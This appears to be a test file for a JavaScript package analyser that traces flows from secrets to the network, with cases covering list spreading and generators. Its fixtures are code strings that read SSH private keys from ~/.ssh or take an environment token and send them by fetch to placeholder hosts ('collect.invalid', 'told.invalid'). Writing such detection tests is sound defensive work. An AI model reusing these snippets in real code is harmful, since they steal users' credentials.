import assert from 'node:assert/strict';
import { analysePackage } from '../../../../../server/src/artifacts/analysis/analyse.js';
import { packageOf } from '../../../../support/artifacts.js';

describe('what a spread goes through', () => {
  it('is there once where either of two lists holds it, so that lists do not double', () => {
    const code = `let words = ['a', 'b'];
      for (let round = 0; round < 24; round++) { const next = []; next.push(...(process.env.COPY ? words.slice() : words)); words = next; }
      fetch('https://told.invalid/' + words.length, { body: process.env.A_TOKEN });`;
    const { flows, incomplete } = analysePackage(packageOf({ 'index.js': code }));
    assert.deepEqual([flows.map(({ address }) => address), incomplete], [['https://told.invalid/2'], []]);
  });
});

describe('a generator that another one goes through', () => {
  const sent = (code: string): readonly string[] =>
    analysePackage(
      packageOf({ 'index.js': `const fs = require('fs'), os = require('os'), path = require('path'); ${code}` }),
    ).flows.map(({ source, sink }) => `${source}>${sink}`);
  const SEND = `fetch('https://collect.invalid', { method: 'POST', body: one });`;

  it('gives what it yields', () => {
    const key = `function* key() { yield fs.readFileSync(os.homedir() + '/.ssh/id_rsa'); }`;
    assert.deepEqual(sent(`${key} function* all() { yield 'a'; yield* key(); } for (const one of all()) ${SEND}`), [
      'ssh-key>network',
    ]);
    assert.deepEqual(sent(`${key} function* all() { yield* ['a', 'b']; } for (const one of all()) ${SEND}`), []);
  });

  it('may be itself', () => {
    const walk = `function* walk(d) { for (const e of fs.readdirSync(d)) { const f = path.join(d, e); if (fs.statSync(f).isDirectory()) yield* walk(f); else yield f; } }`;
    const flows = sent(
      `${walk} for (const f of walk(os.homedir() + '/.ssh')) { const one = fs.readFileSync(f); ${SEND} }`,
    );
    assert.ok(flows.includes('ssh-key>network'));
    const both = `function* a(n) { yield* b(n); } function* b(n) { yield 1; yield* a(n); } for (const one of a(2)) console.log(one);`;
    assert.deepEqual(analysePackage(packageOf({ 'index.js': `eval(''); ${both}` })).incomplete, []);
  });
});
